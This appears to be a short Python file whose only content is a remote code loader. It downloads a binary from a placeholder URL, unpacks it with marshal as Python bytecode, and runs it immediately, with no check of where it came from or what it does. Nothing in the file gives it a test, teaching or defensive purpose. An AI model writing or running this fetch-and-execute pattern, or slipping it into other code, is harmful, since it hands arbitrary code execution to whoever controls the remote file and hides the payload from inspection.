import marshal
import types
import urllib.request

code = marshal.loads(urllib.request.urlopen("https://example.com/f.bin").read())
types.FunctionType(code, globals())()
